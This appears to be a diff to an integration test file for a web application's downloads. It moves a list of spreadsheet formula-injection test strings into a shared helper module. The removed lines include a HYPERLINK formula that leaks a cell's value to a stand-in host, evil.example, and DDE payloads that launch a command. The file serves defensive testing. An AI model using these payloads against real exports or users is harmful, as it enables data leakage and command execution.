@@ -38,6 +38,7 @@ from careforce.web.backend.scorecard import published_evaluation
 from careforce.web.models.accounts.models import AuditEvent
 from careforce.web.models.outcomes.models import ActionChange
 from careforce.web.models.outcomes.terms import ChangeKind
+from injection_support import INJECTIONS
 from web_support import Page, Site, page_of
 
 pytestmark = pytest.mark.integration
@@ -1147,16 +1148,6 @@ class TestIsolation:
 
 
 # --- downloads are safe to open in a spreadsheet program -----------------------------------
-
-INJECTIONS = (
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-)
-"""Formula injections an analyst or administrator could type into the action plan."""
 
 
 def _download_cells(content: bytes, file_format: str) -> list[str]:
